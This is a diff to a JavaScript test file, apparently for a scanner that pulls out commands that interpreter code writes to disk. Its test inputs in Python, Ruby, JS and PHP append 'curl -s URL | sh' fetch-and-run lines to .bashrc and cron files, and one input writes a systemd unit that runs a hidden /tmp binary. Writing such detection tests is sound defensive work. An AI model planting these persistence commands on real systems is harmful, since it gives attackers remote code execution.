@@ -114,6 +114,7 @@ describe('what interpreter code writes where it runs', () => {
     expect(codeLines(`import os\nf = open(os.path.expanduser('~/.bashrc'), 'a')\nf.write('curl -s ${URL} | sh')\nf.close()`, 'python')).toEqual([`curl -s ${URL} | sh`]);
     expect(codeLines(`from pathlib import Path\nPath('/etc/systemd/system/u.service').write_text('[Service]\\nExecStart=/tmp/.k\\n')`, 'python')).toEqual(['/tmp/.k']);
     expect(codeLines(`File.write('/etc/cron.d/x', "${cron}\\n")`, 'ruby')).toEqual([`curl -s ${URL} | sh`]);
+    expect(codeLines(`Pathname.new('/root/.bashrc').write('curl -s ${URL} | sh')`, 'ruby')).toEqual([`curl -s ${URL} | sh`]);
     expect(codeLines(`require('fs').appendFileSync('/root/.bashrc', '${SHELL}\\n')`, 'js')).toEqual([SHELL]);
     expect(codeLines(`file_put_contents('/etc/cron.d/x', '${cron}'.PHP_EOL);`, 'php')).toEqual([`curl -s ${URL} | sh`]);
     // Decoded text is decoded.
